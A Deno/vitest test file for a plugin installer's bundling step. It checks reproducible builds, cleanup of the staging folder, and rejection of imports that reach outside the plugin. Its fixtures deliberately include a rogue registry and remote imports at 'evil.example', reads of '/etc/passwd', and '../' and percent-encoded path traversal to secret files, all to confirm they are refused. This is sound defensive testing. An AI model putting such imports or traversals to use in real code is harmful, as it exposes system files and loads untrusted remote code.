import { bundlerEnvironment } from "../../../cli/plugin_runtime.ts";
import { describe, expect, it } from "vitest";
import { addPlugin, type AddTools } from "../../../plugins/install/add.ts";
import { parsePattern } from "../../../plugins/install/allowlist.ts";
import { pack } from "../../../plugins/install/archive.ts";
import { systemFiles } from "../../../plugins/install/disk.ts";
import { readFolder } from "../../../plugins/install/folder.ts";
import { launch } from "../../../plugins/launcher.ts";
import { diskFiles } from "../../../plugins/store/files.ts";
import { PluginStore } from "../../../plugins/store/store.ts";
import { inFolder } from "../../cli/system/process.ts";
import { facts, manifestFor } from "../store/contents.ts";

const sdkNames = ["batch", "definePlugin", "z"];

/** A store in a folder of its own, which may install from one other. */
function storeIn(
  folder: string,
  from: string,
): { store: PluginStore; tools: AddTools; described: number[] } {
  const described: number[] = [];
  const files = systemFiles(`${folder}/staging`);
  const store = new PluginStore(diskFiles(folder));
  for (const kind of ["folder", "file"]) {
    store.allow(parsePattern(`${kind}:${from}/**`, files.resolve));
  }
  const tools: AddTools = {
    files,
    launch,
    env: bundlerEnvironment(),
    sdkNames,
    describe: (content) => Promise.resolve(described.push(content.length) > 0 ? [] : []),
    fetch: () => Promise.reject(new Error("no network")),
    registry: "https://npm.example",
    signal: new AbortController().signal,
  };
  return { store, tools, described };
}

async function write(folder: string, files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    const full = `${folder}/${path}`;
    await Deno.mkdir(full.slice(0, full.lastIndexOf("/")), { recursive: true });
    await Deno.writeTextFile(full, text);
  }
}

const plugin = {
  "plugin.json": JSON.stringify(manifestFor("a@1.0.0"), null, 2),
  "deno.json": JSON.stringify({
    imports: {
      "meander/plugin": "../none.ts",
      semver: "npm:semver@7.8.6",
      "@std/x": "jsr:@std/x@1",
    },
  }),
  "mod.ts": `import { definePlugin as define, type Nothing } from "meander/plugin";
    import satisfies from "semver";
    import { deep } from "./src/deep.ts";
    import table from "./src/table.json" with { type: "json" };
    import { inspect } from "node:util";
    enum Kind { First = 7 }
    export default define({ deep, table, kind: Kind.First, ok: satisfies.satisfies("1.2.3", "^1"),
      shown: inspect({ a: 1 }), lazy: () => import("./src/lazy.ts") });`,
  "src/deep.ts": `export const deep: string = "d";`,
  "src/lazy.ts": `export const lazy = 1;`,
  "src/table.json": `{"t":1}`,
  // Neither of these is read, nor what they would run.
  "src/package.json": `{"type":"commonjs"}`,
  ".npmrc": "registry=https://evil.example/",
  "src/deep.test.ts": `import "https://evil.example/x.ts";`,
};

/** What a plugin has as its default export, where `definePlugin` gives back what it was given. */
async function exportOf(code: Uint8Array): Promise<Record<string, unknown>> {
  const key = Symbol.for("meander.plugin.1");
  const before = Object.getOwnPropertyDescriptor(globalThis, key);
  if (before === undefined) {
    const sdk = { definePlugin: (value: unknown) => value };
    Object.defineProperty(globalThis, key, { value: sdk, configurable: true });
  }
  try {
    const text = new TextDecoder().decode(code);
    return (await import(`data:text/javascript,${encodeURIComponent(text)}`)).default;
  } finally {
    if (before === undefined) delete (globalThis as Record<symbol, unknown>)[key];
  }
}

describe("installing a plugin", () => {
  it("makes one module of it, the same from its folder and from its archive, anywhere", () =>
    inFolder(async (folder) => {
      await write(`${folder}/p`, plugin);
      const one = storeIn(`${folder}/one`, folder);
      const first = await addPlugin(one.store, `${folder}/p`, { ...facts, granted: {} }, one.tools);
      expect(await exportOf(first.readCode())).toMatchObject({
        deep: "d",
        table: { t: 1 },
        kind: 7,
        ok: true,
        shown: "{ a: 1 }",
      });
      const code = new TextDecoder().decode(first.readCode());
      expect(code).not.toContain(folder);
      expect(code).not.toContain("staging-");
      // It asks the engine for what it uses, and no more.
      expect([code.includes('"definePlugin"'), code.includes('"batch"')]).toEqual([true, false]);
      const tree = readFolder(one.tools.files, `${folder}/p`);
      await Deno.writeFile(`${folder}/a.tgz`, pack(tree));
      const two = storeIn(`${folder}/deep/er/two`, folder);
      const again = await addPlugin(
        two.store,
        `${folder}/a.tgz`,
        { ...facts, granted: {} },
        two.tools,
      );
      expect(again.sha256).toBe(first.sha256);
      expect([one.described, two.described]).toEqual([[expect.any(Number)], [expect.any(Number)]]);
      // What it was put together in is gone.
      for (const name of ["one", "deep/er/two"]) {
        expect([...Deno.readDirSync(`${folder}/${name}/staging`)]).toEqual([]);
      }
    }));

  it("refuses every import that leaves the plugin, before anything is bundled", () =>
    inFolder(async (folder) => {
      await write(folder, {
        "secret.txt": "SECRET",
        "secret.json": `"SECRET"`,
        "secret.ts": `export default "SECRET";`,
        "p/plugin.json": plugin["plugin.json"],
        "p/deno.json": JSON.stringify({
          imports: {
            late: "npm:semver@^7",
            remote: "https://evil.example/x.ts",
            up: "./../secret.ts",
          },
        }),
        "p/mod.ts": `
          import a from "../secret.txt" with { type: "text" };
          import b from "../secret.json" with { type: "json" };
          import c from "../secret.txt" with { type: "bytes" };
          import d from "../secret.ts";
          import e from "/etc/passwd" with { type: "text" };
          import f from "file:///etc/passwd" with { type: "text" };
          import g from "./%2e%2e/secret.ts";
          import h from "late";
          import i from "remote";
          import j from "up";
          import k from "npm:semver";
          import l from "jsr:@std/path@1.0.0";
          import m from "https://evil.example/y.ts";
          import n from "node:fs";
          import o from "data:text/javascript,export default 1";
          import p from "unknown";
          import type { Q } from "../types.ts";
          export default [a, b, c, d, e, f, g, h, i, j, k, l, m, n, o, p, () => import("../late.ts")];`,
      });
      const { store, tools } = storeIn(`${folder}/s`, folder);
      const add = addPlugin(store, `${folder}/p`, { ...facts, granted: {} }, tools);
      const error = await add.then(() => undefined, (reason) => reason);
      expect(error).toMatchObject({ code: "MEANDER_PLUGIN_IMPORT" });
      const problems: readonly string[] = error.problems;
      const specifiers = ["../secret.txt", "../secret.json", "../secret.ts", "/etc/passwd"];
      specifiers.push(
        "file:///etc/passwd",
        "./%2e%2e/secret.ts",
        "late",
        "remote",
        "up",
        "npm:semver",
      );
      specifiers.push("jsr:@std/path@1.0.0", "https://evil.example/y.ts", "node:fs", "unknown");
      specifiers.push("data:text/javascript,export default 1", "../types.ts", "../late.ts");
      for (const specifier of specifiers) {
        const named = `"mod.ts" imports ${JSON.stringify(specifier)}: `;
        expect(problems.some((each) => each.startsWith(named)), `${specifier} in\n${error}`).toBe(
          true,
        );
      }
      expect(store.why("a")).toEqual([]);
    }));

  it("leaves the store as it was when the code does not build, or is not what the manifest says", () =>
    inFolder(async (folder) => {
      const { store, tools } = storeIn(`${folder}/s`, folder);
      const add = (more: Partial<AddTools> = {}) =>
        addPlugin(store, `${folder}/p`, { ...facts, granted: {} }, { ...tools, ...more });
      await write(`${folder}/p`, {
        "plugin.json": plugin["plugin.json"],
        "mod.ts": 'import { nothing } from "meander/plugin"; export default nothing;',
      });
      await expect(add()).rejects.toThrow('"meander/plugin" has no "nothing"');
      await write(`${folder}/p`, { "mod.ts": "export default (;" });
      await expect(add()).rejects.toThrow(/MEANDER_PLUGIN_(?:IMPORT|BUNDLE)/);
      await write(`${folder}/p`, { "mod.ts": "export default 1;" });
      const describe = () => Promise.resolve(["it has no operator same"]);
      await expect(add({ describe })).rejects.toThrow("it has no operator same");
      await expect(add({ signal: AbortSignal.abort() })).rejects.toThrow("abort");
      expect(store.why("a")).toEqual([]);
      expect([...Deno.readDirSync(`${folder}/s/staging`)]).toEqual([]);
    }));
});
